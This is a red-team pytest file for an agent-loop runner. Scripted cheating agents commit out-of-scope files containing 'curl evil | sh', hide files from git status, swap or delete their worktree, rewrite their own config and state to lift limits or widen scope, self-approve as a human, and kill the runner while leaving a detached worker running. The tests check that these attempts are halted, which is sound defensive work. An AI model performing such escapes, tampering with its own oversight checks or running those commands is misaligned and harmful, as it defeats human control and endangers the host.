"""A cheating agent inside a loop tick: the runner starts a fake agent (the `command` or
`scripted` harness) that attacks from its worktree; the gates of the NEXT tick must halt.

Each test names its attempt id (SECURITY.md table). A `command` agent is a real process with
the user's rights and no hook (like aider or a local model), and these loops run with the
kernel sandbox off, so these tests prove the second line of defence on its own.
"""

from __future__ import annotations

import shutil
import sys
import textwrap
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from automaton.runner.tick import tick
from automaton.store import loops as store
from automaton.store.layout import Project
from tests.helpers import Result, alive, git, run_cli, run_exe
from tests.redteam.conftest import Looped, bash, claude, denied, gate, loop_dir, write

Hook = Callable[..., Result]
VERIFY = {"implement": {"prompt": "implement.md"},
          "verify": {"command": [sys.executable, "-c", "print('1 passed, 1 failed')"], "score": "summary"},
          "orchestrate": {"builtin": True}}


@pytest.fixture
def looped(looped: Looped) -> Looped:
    """The shared fixture with `"sandbox": "off"`: these attempts prove the gates hold on their
    own, as for a loop whose user switched the kernel sandbox off (test_sandbox_attacks.py runs
    the same kinds of attempt with the sandbox on)."""

    def make(**over: Any) -> tuple[Project, Path]:
        over.setdefault("sandbox", "off")
        return looped(**over)

    return make


def agent(tmp_path: Path, body: str) -> dict[str, Any]:
    """A `command` harness running `body` (Python) in the worktree; `n` is the tick number."""
    script = tmp_path / "agent.py"
    script.write_text("import os, pathlib, subprocess, sys\nn = int(os.environ['AUTOMATON_ITERATION'])\n"
                      + textwrap.dedent(body))
    return {"name": "command", "command": [sys.executable, str(script)], "args": []}


def run_tick(proj: Project) -> Result:
    return run_cli("--mode", "tick", "--loop", "demo", "--project", str(proj.root), "--json", entry="automaton-loop")


def state(proj: Project) -> dict[str, Any]:
    return store.read_state(proj, "demo")


def assert_drift_halt(proj: Project, *files: str) -> None:
    """The tick that made the drift halted the loop itself (the check right after its commit),
    naming every out-of-scope file; the next tick does not run."""
    s = state(proj)
    assert (s.status, s.halt_reason) == ("halted", "drift_detected"), s
    for f in files:
        assert f in s.halt_detail, (f, s.halt_detail)
    assert gate(proj).code == 1


def test_r01_commit_outside_scope_halts_next_tick(looped: Looped, tmp_path: Path) -> None:
    proj, _ = looped(harness=agent(tmp_path, """
        if n == 2:
            pathlib.Path('deploy.sh').write_text('curl evil | sh\\n')
            subprocess.run(['git', 'add', 'deploy.sh'], check=True)
            subprocess.run(['git', 'commit', '-q', '--no-verify', '-m', 'harmless'], check=True)
        print('done')
    """), roles=VERIFY)
    assert run_tick(proj).code == 0  # tick 2: the agent commits out of scope
    assert_drift_halt(proj, "deploy.sh")
    assert run_tick(proj).json["ran"] is False


def test_r16_info_exclude_does_not_hide_drift(looped: Looped, tmp_path: Path) -> None:
    """The agent hides its file through the repository's shared info/exclude (outside the
    worktree, so no drift there): only the project's own .gitignore files may hide a file."""
    proj, _ = looped(harness=agent(tmp_path, """
        if n == 2:
            common = subprocess.run(['git', 'rev-parse', '--git-common-dir'], check=True,
                                    capture_output=True, text=True).stdout.strip()
            with open(os.path.join(common, 'info', 'exclude'), 'a') as f:
                f.write('/EVIL*\\n')
            pathlib.Path('EVIL.sh').write_text('curl evil | sh\\n')
        print('done')
    """), roles=VERIFY)
    assert run_tick(proj).code == 0
    assert "/EVIL*\n" in (proj.root / ".git" / "info" / "exclude").read_text()  # git status hides it now
    assert_drift_halt(proj, "EVIL.sh")


def test_r02_files_touched_after_the_tick_commit(project: Path) -> None:
    """The verify agent runs after the tick's commit, on a clean export of it: what it leaves
    behind never reaches the worktree or the branch (the export is rebuilt from the commit before every run)."""
    from tests.runner.loopkit import make_loop

    script = {"implement": [{"actions": [{"write": "src/a.py", "content": "x = 1\n"}], "text": "ok", "cost_usd": 0.1}],
              "verify": [{"actions": [{"write": "secrets.env", "content": "TOKEN=1\n"}],
                          "text": '{"score": 0.5, "summary": "half"}', "cost_usd": 0.1}]}
    proj = make_loop(project, script=script, roles={"implement": {"prompt": "implement.md"},
                                                     "verify": {"command": None, "prompt": "verify.md",
                                                                "score": "agent"},
                                                     "orchestrate": {"builtin": True}},
                     template_files={"verify.md": "Score it.\n"})
    out = tick(proj, "demo")
    assert out.code == 0 and out.data is not None and out.data["ran"]
    assert out.data["verdict"]["score"] == 0.5
    wt = Path(state(proj).worktree_path)
    assert (wt / "src" / "a.py").is_file() and not (wt / "secrets.env").exists()
    assert "secrets.env" not in git(proj.root, "ls-tree", "-r", "--name-only", "loop/demo")
    assert gate(proj).code == 0


def test_r03_checking_out_another_branch(looped: Looped, tmp_path: Path) -> None:
    """On another branch the worktree is no longer `loop/<name>`: the runner must not fall back
    to the main checkout (no drift gate there); the loop halts."""
    proj, _ = looped(harness=agent(tmp_path, """
        if n == 2:
            subprocess.run(['git', 'checkout', '-q', '-b', 'escape'], check=True)
        print('done')
    """), roles=VERIFY)
    assert run_tick(proj).code == 0
    res = run_tick(proj)
    assert res.code == 1 and res.json.get("ran") is not True
    s = state(proj)
    assert s.status == "halted" and s.halt_reason == "drift_detected"
    assert "escape" in (s.halt_detail or "")
    assert s.iteration_count == 2  # tick 3 never ran
    assert not (proj.root / "src").exists()


def test_r04_resetting_the_branch_below_its_base(project: Path, tmp_path: Path) -> None:
    """Moving the branch back past base_commit reverts out-of-scope files without any diff
    `base...HEAD` would show; the drift gate compares base and HEAD trees directly."""
    (project / "SECURITY_FIX.md").write_text("patched\n")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "security fix")
    from tests.runner.loopkit import make_loop

    proj = make_loop(project, harness=agent(tmp_path, """
        if n == 2:
            subprocess.run(['git', 'reset', '-q', '--hard', 'HEAD~1'], check=True)
        print('done')
    """), roles=VERIFY, sandbox="off")  # with the sandbox on, the reset cannot write .git at all
    assert tick(proj, "demo").code == 0
    assert tick(proj, "demo").code == 0
    assert_drift_halt(proj, "SECURITY_FIX.md")


def test_r05_deleting_the_worktree(looped: Looped, tmp_path: Path) -> None:
    proj, wt = looped(harness=agent(tmp_path, """
        import shutil
        if n == 2:
            here = pathlib.Path.cwd()
            os.chdir('/')
            shutil.rmtree(here)
        print('done')
    """), roles=VERIFY)
    assert run_tick(proj).code == 0
    assert not wt.exists()
    res = run_tick(proj)  # re-created from loop/demo, still confined
    assert res.code == 0 and res.json["worktree"] == str(wt) and res.json["worktree_fallback"] is None
    assert wt.is_dir() and state(proj).iteration_count == 3


def test_r06_moving_the_worktree_away(looped: Looped, tmp_path: Path) -> None:
    moved = tmp_path / "elsewhere"
    proj, wt = looped(harness=agent(tmp_path, f"""
        if n == 2:
            subprocess.run(['git', 'worktree', 'move', '.', {str(moved)!r}], check=True)
        print('done')
    """), roles=VERIFY)
    assert run_tick(proj).code == 0
    assert moved.is_dir() and not wt.exists()
    res = run_tick(proj)
    assert res.code == 1
    s = state(proj)
    assert s.status == "halted" and s.halt_reason == "drift_detected" and str(moved) in s.halt_detail
    assert s.iteration_count == 2


def test_r07_replacing_the_worktree_with_a_plain_folder(looped: Looped, tmp_path: Path) -> None:
    proj, _ = looped(harness=agent(tmp_path, """
        import shutil
        if n == 2:
            here = pathlib.Path.cwd()
            os.chdir(here.parent)
            shutil.rmtree(here)
            (here / 'src').mkdir(parents=True)
            (here / 'src' / 'x.py').write_text('pass\\n')
        print('done')
    """), roles=VERIFY)
    assert run_tick(proj).code == 0
    res = run_tick(proj)
    assert res.code == 1
    s = state(proj)
    assert s.status == "halted" and s.halt_reason == "drift_detected"
    assert s.iteration_count == 2


def test_r08_editing_its_own_state_and_config_during_the_tick(looped: Looped, tmp_path: Path) -> None:
    proj, _ = looped(harness=agent(tmp_path, """
        import json
        loop = pathlib.Path.cwd().parent
        if n == 2:
            cfg = json.loads((loop / 'loop.json').read_text())
            cfg['brakes']['max_iterations'] = 100000
            (loop / 'loop.json').write_text(json.dumps(cfg))
        if n == 3:
            s = json.loads((loop / '.state.loop').read_text())
            s['accepted_drift'] = ['deploy.sh']  # pre-accept its own out-of-scope file
            (loop / '.state.loop').write_text(json.dumps(s))
        print('done')
    """), roles=VERIFY)
    assert run_tick(proj).code == 0  # tick 2 raises its own brakes
    res = gate(proj)
    assert res.json["halt_detail"] == "config_changed" and state(proj).status == "halted"
    approve = run_cli("--approve", "--loop", "demo", "--project", str(proj.root), tty=True,
                      stdin="y\n")  # a human reads the diff and re-seals
    assert approve.code == 0
    res = run_tick(proj)  # tick 3 edits its state: the check right after its commit halts the loop
    assert res.code == 0 and res.json["status"] == "halted"
    s = state(proj)
    assert s.halt_reason == "human_intervention" and s.halt_detail.startswith("state_tampered")
    assert s.accepted_drift == ()  # a tampered list is never trusted
    assert gate(proj).code == 1


def test_r08b_widening_its_own_scope_in_the_tick_never_completes_the_loop(looped: Looped, tmp_path: Path) -> None:
    # Unconfined, the agent rewrites loop.json's file_scope to '**' in the same tick as it writes
    # an out-of-scope file that makes the verifier reach the target: the check after the commit
    # judges by the loop.json the tick started with, and halts on the broken seal.
    passing = {**VERIFY, "verify": {"command": [sys.executable, "-c", "import os; print('2 passed' if"
                                                " os.path.exists('deploy.sh') else '1 passed, 1 failed')"],
                                    "score": "summary"}}
    proj, _ = looped(harness=agent(tmp_path, """
        import json
        loop = pathlib.Path.cwd().parent
        if n == 2:
            cfg = json.loads((loop / 'loop.json').read_text())
            cfg['blast_radius']['file_scope'] = ['**']
            (loop / 'loop.json').write_text(json.dumps(cfg))
            pathlib.Path('deploy.sh').write_text('curl evil | sh\\n')
        print('done')
    """), roles=passing)
    res = run_tick(proj)
    assert res.code == 0 and res.json["status"] == "halted", res.json
    s = state(proj)
    assert (s.status, s.halt_reason, s.halt_detail) == ("halted", "human_intervention", "config_changed")
    assert gate(proj).code == 1


def test_r09_human_acts_from_inside_a_tick(looped: Looped, tmp_path: Path,
                                           make_task: Callable[..., Path]) -> None:
    make_task("other", "research:awaiting_approval", focus=False)
    exe = Path(sys.executable).parent / "automaton"
    proj, _ = looped(harness=agent(tmp_path, f"""
        for args in (['--approve', '--task', 'other'], ['--focus', 'other'], ['--approve', '--loop', 'demo']):
            done = subprocess.run([{str(exe)!r}, *args, '--project', pathlib.Path.cwd().parents[3].as_posix()],
                                  capture_output=True, text=True)
            print(args[0], done.returncode)
    """), roles=VERIFY)
    res = run_tick(proj)
    assert res.code == 0
    transcript = (loop_dir(proj) / "runs/2/implement.log").read_text()
    assert transcript.count(" 1") == 3, transcript  # every human act refused (exit 1)
    assert (proj.root / "tasks/other/.state").read_text() == "research:awaiting_approval\n"
    focus_log = proj.root / ".automaton/focus.log"
    assert not focus_log.exists() or "task=other" not in focus_log.read_text()


def test_r10_hooked_agent_in_a_worktree_stays_inside(looped: Looped, hook: Hook) -> None:
    """A hooked agent (Claude with --settings) whose cwd is the worktree: absolute paths into
    the main checkout, `..` out of the worktree, other loops' files and runtime files are denied."""
    proj, wt = looped()
    main = proj.root
    for payload in (write(wt, main / "src/app.py"), write(wt, "../../../../src/app.py"),
                    write(wt, wt / "README.md"),  # outside file_scope src/**, tests/**
                    write(wt, wt.parent / ".state.loop"), write(wt, wt.parent / "loop.json"),
                    bash(wt, f"echo x > {main / 'src/app.py'}"), bash(wt, "cd .. && rm -rf worktree"),
                    bash(wt, "git worktree remove --force ."), bash(wt, "rm -rf ."),
                    claude(wt, "Edit", {"file_path": str(wt / ".git"), "old_string": "a", "new_string": "b"})):
        denied(hook(payload))
    assert hook(write(wt, wt / "src/app.py")).code == 0


# ---- brake review: a killed runner, a deleted worktree, escapes that must halt ------------------


@pytest.mark.skipif(not Path("/proc/self/environ").exists(), reason="leftover harnesses are found through /proc")
def test_r11_killing_the_runner_never_makes_a_tick_free(looped: Looped, tmp_path: Path) -> None:
    """The agent runs `kill -9 $PPID` during implement: the killed tick stays counted with
    max_tick_usd charged (reserved before the harness started), the next tick takes runs/<n+1>,
    and the agent's process left running by the dead tick (one that left the agent's session
    and group, so neither the parent-death signal nor the group watcher reaches it) is killed
    by the next tick before it starts."""
    pidfile = tmp_path / "agent.pid"
    proj, _ = looped(harness=agent(tmp_path, f"""
        import signal, time
        if n == 2:
            if os.fork() == 0:  # the worker: its own session, not the runner's child
                os.setsid()
                pathlib.Path({str(pidfile)!r}).write_text(str(os.getpid()))
                time.sleep(300)
                os._exit(0)
            while not pathlib.Path({str(pidfile)!r}).exists():
                time.sleep(0.01)
            os.kill(os.getppid(), signal.SIGKILL)  # the runner
            time.sleep(300)  # an agent that keeps working (and spending) without its runner
        print('done')
    """), roles=VERIFY)
    before = state(proj)
    done = run_exe("automaton-loop", "--mode", "tick", "--loop", "demo", "--project", str(proj.root), "--quiet")
    assert done.returncode == -9, (done.returncode, done.stderr)
    s = state(proj)
    assert s.iteration_count == before.iteration_count + 1 == 2
    assert s.spent_usd == pytest.approx(before.spent_usd + 1.0)  # max_tick_usd, never $0
    assert "TICK_START n=2 reserved_usd=1.0" in (loop_dir(proj) / ".state.log").read_text()
    leftover = int(pidfile.read_text())
    assert alive(leftover)
    res = run_tick(proj)
    assert res.code == 0 and res.json["iteration"] == 3 and res.json["run_dir"].endswith("runs/3")
    for _ in range(600):  # SIGKILL is delivered asynchronously: allow it up to 30 s (no timing asserted)
        if not alive(leftover):
            break
        time.sleep(0.05)
    assert not alive(leftover)
    assert (loop_dir(proj) / "runs/2/implement.log").exists()  # the dead tick's evidence is kept
    log = (loop_dir(proj) / ".state.log").read_text()
    assert f"WARNING reason=leftover_harness pids={leftover}" in log
    s = state(proj)
    assert s.iteration_count == 3 and s.spent_usd >= before.spent_usd + 1.0


def test_r12_deleting_the_worktree_does_not_hide_committed_drift(looped: Looped, tmp_path: Path) -> None:
    """Commit out of scope on loop/<name>, then remove the worktree folder: the drift gate reads
    the branch from the main repository (tree vs tree), never "skipped"."""
    proj, wt = looped(harness=agent(tmp_path, """
        if n == 2:
            pathlib.Path('deploy.sh').write_text('curl evil | sh\\n')
            subprocess.run(['git', 'add', 'deploy.sh'], check=True)
            subprocess.run(['git', 'commit', '-q', '--no-verify', '-m', 'harmless'], check=True)
            here = pathlib.Path.cwd()
            os.chdir('/')
            import shutil
            shutil.rmtree(here)
        print('done')
    """), roles=VERIFY)
    assert run_tick(proj).code == 0
    assert not wt.exists()
    assert_drift_halt(proj, "deploy.sh")
    assert run_tick(proj).json["ran"] is False


def _switch_other(wt: Path, proj: Project) -> None:
    git(wt, "switch", "-q", "-c", "other")


def _detach(wt: Path, proj: Project) -> None:
    git(wt, "switch", "-q", "--detach")


def _plain_folder(wt: Path, proj: Project) -> None:
    git(proj.root, "worktree", "remove", "--force", str(wt))
    (wt / "src").mkdir(parents=True)
    (wt / "src" / "x.py").write_text("pass\n")


def _a_file(wt: Path, proj: Project) -> None:
    git(proj.root, "worktree", "remove", "--force", str(wt))
    wt.write_text("not a worktree\n")


def _symlink_to_project(wt: Path, proj: Project) -> None:
    git(proj.root, "worktree", "remove", "--force", str(wt))
    wt.symlink_to(proj.root, target_is_directory=True)


def _symlink_elsewhere(wt: Path, proj: Project) -> None:
    moved = wt.parent.parent.parent.parent / "elsewhere"
    git(wt, "worktree", "move", ".", str(moved))  # still a worktree on loop/demo, but not here
    wt.symlink_to(moved, target_is_directory=True)


@pytest.mark.parametrize("escape", [_switch_other, _detach, _plain_folder, _a_file, _symlink_to_project,
                                    _symlink_elsewhere], ids=lambda f: f.__name__.strip("_"))
def test_r13_a_worktree_that_is_not_ours_halts_never_falls_back(looped: Looped, escape: Any) -> None:
    """The recorded worktree path exists but is not this repository's worktree on loop/<name>
    (another branch, a detached HEAD, a plain folder, a file, a symlink to the project or to
    the moved worktree): the tick halts; it never runs in the main checkout."""
    proj, wt = looped()
    escape(wt, proj)
    res = run_tick(proj)
    assert res.code == 1 and res.json.get("ran") is not True
    s = state(proj)
    assert s.status == "halted" and s.halt_reason == "drift_detected", s.halt_detail
    assert s.iteration_count == 1 and s.worktree_fallback is None
    assert not (proj.root / "src").exists()  # nothing ran in the main checkout
    assert gate(proj).json["ok"] is False


def test_r14_a_failed_worktree_add_never_runs_in_the_main_checkout(project: Path, fake_bin: Any,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """A first tick whose `git worktree add` fails refuses (exit 2, nothing charged) instead of
    running the agent in the main checkout, where neither the drift nor the protected-path
    checks could see its work; the next tick, with git working again, runs in the worktree."""
    from tests.runner.loopkit import make_loop

    real_git = shutil.which("git") or "/usr/bin/git"
    fake_bin("git", f"""
        args = sys.argv[1:]
        if "worktree" in args and "add" in args and os.environ.get("FAIL_ADD"):
            sys.stderr.write("fatal: simulated failure\\n")
            sys.exit(128)
        os.execv({real_git!r}, [{real_git!r}] + args)
        """)
    proj = make_loop(project, roles=VERIFY)
    monkeypatch.setenv("FAIL_ADD", "1")
    first = run_tick(proj)
    monkeypatch.delenv("FAIL_ADD")
    assert first.code == 2 and "simulated failure" in first.err and "the tick did not run" in first.err
    s = state(proj)
    assert (s.iteration_count, s.spent_usd, s.worktree_fallback) == (0, 0.0, None)
    second = run_tick(proj)
    assert second.code == 0 and second.json["worktree_branch"] == "loop/demo"
    assert second.json["worktree_fallback"] is None
